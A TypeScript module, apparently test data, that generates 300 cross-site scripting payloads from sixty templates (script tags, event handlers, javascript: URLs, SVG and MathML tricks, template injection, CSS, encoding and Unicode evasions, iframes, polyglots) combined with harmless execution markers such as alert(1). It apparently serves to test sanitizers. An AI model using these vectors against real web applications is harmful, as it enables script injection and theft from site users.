/** Texts that would run as a script wherever somebody took them for more than text. Each calls `__ran` or opens a dialog. */

/** What a payload does where it runs. */
const deeds = ["__ran()", "alert(1)", "top.__ran()", "(0,eval)('__ran()')", "import('data:text/javascript,__ran()')"];

const inBraces = ["$", "{RUN}"].join(""); // put together, since no template of ours is meant

/** RUN stands for the deed. Six of each category. */
const templates = {
  tags: [
    "<script>RUN</script>",
    '"><script>RUN</script>',
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    '<script src="data:text/javascript,RUN"></script>',
  ],
  handlers: [
    "<img src=x onerror=RUN>",
    '" onmouseover="RUN" autofocus onfocus="RUN',
    "<body onload=RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
  ],
  addresses: [
    "javascript:RUN",
    '<a href="javascript:RUN">x</a>',
    "JaVaScRiPt:RUN",
    '<a href="java&#9;script:RUN">x</a>',
    "data:text/html,<script>RUN</script>",
    '<form action="javascript:RUN"><button autofocus>x</button></form>',
  ],
  svg: [
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
  ],
  templates: [
    "{{constructor.constructor('RUN')()}}",
    inBraces,
    "<%= RUN %>",
    "#{RUN}",
    `[[${inBraces}]]`,
    "<template><img src=x onerror=RUN></template>",
  ],
  styles: [
    "<style>@import 'javascript:RUN';</style>",
    "</style><script>RUN</script>",
    '<div style="background:url(javascript:RUN)">x</div>',
    '<div style="width:expression(RUN)">x</div>',
    '<link rel=stylesheet href="data:text/css,*{background:url(javascript:RUN)}">',
    "<style>b{animation:x 1s}@keyframes x{}</style><b onanimationstart=RUN>x</b>",
  ],
  entities: [
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "&#x3c;svg onload=RUN&#x3e;",
    '<a href="&#106;avascript:RUN">x</a>',
    "&quot;&gt;&lt;img src=x onerror=RUN&gt;",
    "%3Cscript%3ERUN%3C/script%3E",
  ],
  letters: [
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "<\u017fcript>RUN</\u017fcript>",
    "<img\u00a0src=x onerror=RUN>",
    "\\x3cimg src=x onerror=RUN\\x3e",
    "<\u0131mg src=x onerror=RUN><img/src=x/onerror=RUN>",
  ],
  documents: [
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe src="javascript:RUN"></iframe>',
    '<object data="javascript:RUN"></object>',
    '<embed src="javascript:RUN">',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    '<base href="javascript:RUN//">',
  ],
  polyglots: [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>",
    "'\">><marquee><img src=x onerror=RUN></marquee>",
    "\"'--></style></script><svg onload=RUN>",
    "';RUN;//",
    "*/RUN/*",
    "]]><img src=x onerror=RUN><![CDATA[",
  ],
} as const;

/** Three hundred: each template with each deed. */
export const payloads: readonly string[] = Object.values(templates).flatMap((ofCategory) =>
  ofCategory.flatMap((template) => deeds.map((deed) => template.replaceAll("RUN", deed))),
);

/** One of each category. */
export const oneOfEach: readonly string[] = Object.values(templates).map(([template]) =>
  template.replaceAll("RUN", "__ran()"),
);
